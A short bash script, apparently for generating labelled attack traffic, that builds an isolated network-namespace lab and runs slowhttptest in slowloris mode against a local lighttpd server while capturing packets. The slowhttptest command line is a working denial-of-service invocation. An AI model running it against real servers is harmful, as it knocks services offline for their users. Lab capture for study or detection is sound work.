#!/usr/bin/env bash
# slowhttptest in slowloris mode (-H): 100 connections opened at 50/s to lighttpd, each sending one
# more header line every 10 s and never finishing its request; 35 s test.
set -euo pipefail
source "$(dirname "$0")/lib/netns.sh"
OUT="$TRACE_DIR/slowloris.pcap"

netns_switch
netns_host target 10.77.31.1/16
netns_host attacker 10.77.31.2/16
web_server target 0.0.0.0

capture_start target eth0 "$OUT" 128
netns_exec attacker timeout 60 slowhttptest -H -c 100 -r 50 -i 10 -l 35 -s 8192 -t GET -x 24 -p 3 \
  -u http://10.77.31.1/ >/dev/null
capture_stop
